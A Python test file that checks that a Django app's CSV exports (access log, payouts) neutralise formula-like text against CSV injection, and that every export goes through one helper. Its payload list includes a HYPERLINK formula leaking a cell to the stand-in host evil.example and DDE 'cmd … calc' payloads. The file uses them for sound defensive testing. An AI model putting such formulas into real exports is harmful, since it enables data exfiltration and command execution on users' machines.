"""Formulas in CSV exports (CSV injection): text that someone typed comes out of every CSV export
with a `'` in front when it starts like a formula, so a spreadsheet shows it as text; the numbers the
code writes stay numbers. Each export is downloaded through its page and read back with `csv`."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from billing.services.payment_runs import payment_run_create
from jobcenter.access_log import log_access
from jobcenter.csv_export import csv_writer, number_cell, safe_cell
from orders.models import AssignmentStatus, ContractType, OrderStatus
from tests.factories import AssignmentFactory, GigFactory, OrderFactory, WorkerFactory
from tests.factories.auth import login_staff
from tests.factories.payments import payment_details

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]

# The payloads of the issue, as a person would type them in a text field.
TYPED = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]
# A form strips leading whitespace, so a tab or a carriage return reaches the data only another way
# (a service call, an import); the export must neutralise them all the same.
HIDDEN = ["\t=1+1", "\r=1+1"]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode(), newline=""), delimiter=";"))


def assert_neutralised(cell: str, typed: str) -> None:
    assert cell.startswith("'"), f"{cell!r} would be a formula in a spreadsheet"
    assert cell[1:] == typed


# --- The access log (the reason unit staff type before looking at support needs) ---------------------
def _access_log_reasons(client, coordinator, worker) -> dict[str, str]:
    login_staff(client, coordinator)
    rows = read_csv(client.get(reverse("coordinator:access-log-csv"), {"worker": worker.pk}))
    reason = rows[0].index("reason")
    return {row[reason] for row in rows[1:]}


@pytest.mark.parametrize("payload", TYPED)
def test_access_log_csv__a_typed_reason_is_text_not_a_formula(client, staff, worker, coordinator, payload):
    login_staff(client, staff)
    response = client.post(reverse("units:worker-support-needs", args=[worker.pk]), {"reason": payload})
    assert response.status_code == 200

    reasons = _access_log_reasons(client, coordinator, worker)

    assert reasons == {"'" + payload}


@pytest.mark.parametrize("payload", HIDDEN)
def test_access_log_csv__a_leading_tab_or_carriage_return_is_neutralised(client, staff, worker, coordinator, payload):
    log_access(staff, worker, "support_needs", reason=payload)

    (reason,) = _access_log_reasons(client, coordinator, worker)

    assert_neutralised(reason, payload)


def test_access_log_csv__plain_text_and_the_other_columns_are_unchanged(client, staff, worker, coordinator):
    log_access(staff, worker, "support_needs", reason="Keikan valmistelu")
    login_staff(client, coordinator)

    rows = read_csv(client.get(reverse("coordinator:access-log-csv"), {"worker": worker.pk}))

    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["reason"], row["worker"], row["user"]) == ("Keikan valmistelu", "Aino Laine", staff.email)
    assert row["time"][:4].isdigit()


# --- The payouts list (a worker's name, as staff typed it) -----------------------------------------
JAN = {"start": "2025-01-01", "end": "2025-01-31"}


def _approved_commission_work(worker) -> None:
    order = OrderFactory(terms_accepted=True, status=OrderStatus.APPROVED, contract_type=ContractType.COMMISSION)
    AssignmentFactory(
        gig=GigFactory(order=order, date=dt.date(2025, 1, 15)),
        worker=worker,
        status=AssignmentStatus.APPROVED,
        reported_hours=Decimal("10"),
        approved_hours=Decimal("10"),
    )


@pytest.mark.parametrize("payload", TYPED)
def test_payouts_csv__a_worker_name_is_text_not_a_formula_and_amounts_stay_numbers(client, coordinator, payload):
    worker = WorkerFactory(user__first_name=payload, user__last_name="Virtanen", user__email="aino@example.org")
    _approved_commission_work(worker)
    payment_details(worker)
    today = timezone.localdate()
    payment_run_create(payment_date=today, cutoff_date=dt.date(2025, 1, 31), by=coordinator)
    client.force_login(coordinator)

    rows = read_csv(client.get(reverse("payouts:csv"), JAN))

    assert rows[0] == ["worker", "email", "hours", "gross", "tax %", "tax", "net"]
    name, email, *amounts = rows[1]
    assert_neutralised(name, f"{payload} Virtanen")
    assert email == "aino@example.org"
    assert amounts == ["10,00", "100,00", "60,00", "60,00", "40,00"]


# --- The helper ---------------------------------------------------------------------------------------
def test_safe_cell__numbers_pass_text_is_neutralised():
    out = io.StringIO()
    csv_writer(out).writerow(
        [Decimal("-12.50"), number_cell(Decimal("-12.5")), -3, 1.5, None, "-12,50", "Kahvila Kulma Oy", "a=b"]
    )

    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        "-12.50",
        "-12,50",
        "-3",
        "1.5",
        "",
        "'-12,50",  # typed text, even when it looks like a number: shown as typed
        "Kahvila Kulma Oy",
        "a=b",
    ]
    assert [safe_cell(p)[0] for p in TYPED + HIDDEN] == ["'"] * 6
    with pytest.raises(TypeError):
        number_cell("-2+3")


def test_every_csv_export_writes_through_the_helper():
    """`csv.writer`/`csv.DictWriter` only in `jobcenter/csv_export.py`: a new export that writes CSV
    another way would let formulas through."""
    offenders = []
    for app in ("jobcenter", "web", "orders", "workers", "units", "billing", "benefits", "demo"):
        for path in (ROOT / app).rglob("*.py"):
            if path == ROOT / "jobcenter" / "csv_export.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
                    if isinstance(node.value, ast.Name) and node.value.id == "csv":
                        offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
                if isinstance(node, ast.ImportFrom) and node.module == "csv":
                    if {alias.name for alias in node.names} & {"writer", "DictWriter"}:
                        offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == [], "write CSV with jobcenter.csv_export.csv_writer"
